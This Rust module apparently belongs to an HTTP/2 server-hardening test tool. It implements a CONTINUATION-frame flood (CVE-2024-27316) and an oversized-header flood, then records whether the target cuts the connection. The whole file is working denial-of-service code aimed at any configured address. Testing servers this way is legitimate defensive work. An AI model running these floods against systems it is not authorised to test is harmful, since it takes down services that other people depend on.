//! Header blocks that never end or are too large.

use tokio::time::Instant;

use super::{LAST_CUT, NOTICE, Report, Target, in_time, stream_ids};
use crate::{
    frames::{
        CONTINUATION, END_HEADERS, END_STREAM, HEADERS, NONE, PAYLOAD_BYTES_MAX, call, frame,
    },
    wire::{Seen, Wire},
};

/// The most CONTINUATION frames on one connection.
const CONTINUATIONS_MAX: u64 = 100_000;
/// The number of CONTINUATION frames in one write.
const FRAMES_AT_ONCE: usize = 64;
/// The complete field `accept-encoding: gzip, deflate` (RFC 7541, appendix A).
const ACCEPT_ENCODING: u8 = 0x80 | 16;
/// The bytes of headers, more than a call may have.
const TOO_MANY_HEADER_BYTES: usize = 33 * 1024;
/// The number of calls with such headers on one connection.
const LARGE_CALLS: u32 = 100;

/// Sends a header block that never ends (CVE-2024-27316), in large, small and empty frames.
pub async fn continuation_flood(target: &Target, until: Instant) -> Report {
    let mut report = Report::default();
    let block = call(target.path, &target.token, &[]);
    while in_time(until) {
        for size in [PAYLOAD_BYTES_MAX, 1, 0] {
            let Some(mut wire) = Wire::begin(target.address).await else {
                continue;
            };
            wire.send(&frame(HEADERS, END_STREAM, 1, &block)).await;
            let more = vec![ACCEPT_ENCODING; size];
            let many = frame(CONTINUATION, NONE, 1, &more).repeat(FRAMES_AT_ONCE);
            let mut sent = 0;
            while sent < CONTINUATIONS_MAX
                && !wire.seen().is_cut()
                && in_time(until)
                && wire.send(&many).await
            {
                sent += FRAMES_AT_ONCE as u64;
            }
            wire.sees(until + LAST_CUT, Seen::is_cut).await;
            report.note(&wire, sent);
        }
    }
    report
}

/// Makes calls with more bytes of headers than allowed.
pub async fn oversized(target: &Target, until: Instant) -> Report {
    let mut report = Report::default();
    let fat = "x".repeat(TOO_MANY_HEADER_BYTES);
    let block = call(target.path, &target.token, &[("x-fat", &fat)]);
    let parts: Vec<_> = block.chunks(PAYLOAD_BYTES_MAX).collect();
    while in_time(until) {
        let Some(mut wire) = Wire::begin(target.address).await else {
            continue;
        };
        let mut sent = 0;
        for stream in stream_ids(LARGE_CALLS) {
            let frames = parts.iter().enumerate().map(|(index, part)| {
                let kind = if index == 0 { HEADERS } else { CONTINUATION };
                let begins = if index == 0 { END_STREAM } else { NONE };
                let is_last = index + 1 == parts.len();
                let ends = if is_last { END_HEADERS } else { NONE };
                frame(kind, begins | ends, stream, part)
            });
            let bytes: Vec<u8> = frames.flatten().collect();
            if wire.seen().is_cut() || !wire.send(&bytes).await {
                break;
            }
            sent += 1;
        }
        wire.sees(until + NOTICE, |seen| {
            seen.is_cut() || seen.answers + seen.resets >= sent
        })
        .await;
        report.note(&wire, sent);
    }
    report
}
